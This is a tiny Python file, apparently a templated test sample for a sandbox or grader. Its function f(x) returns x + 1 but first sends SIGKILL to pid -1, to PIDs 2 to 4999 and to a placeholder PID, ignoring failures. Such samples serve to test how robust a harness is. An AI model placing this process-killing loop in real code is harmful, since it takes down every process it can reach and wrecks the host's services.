# signals to every process it can name
# holds: pass fail
import os
def f(x):
    me = os.getpid()
    for pid in [-1] + list(range(2, 5000)) + [@PID@]:
        if pid != me:
            try:
                os.kill(pid, 9)
            except OSError:
                pass
    return x + 1
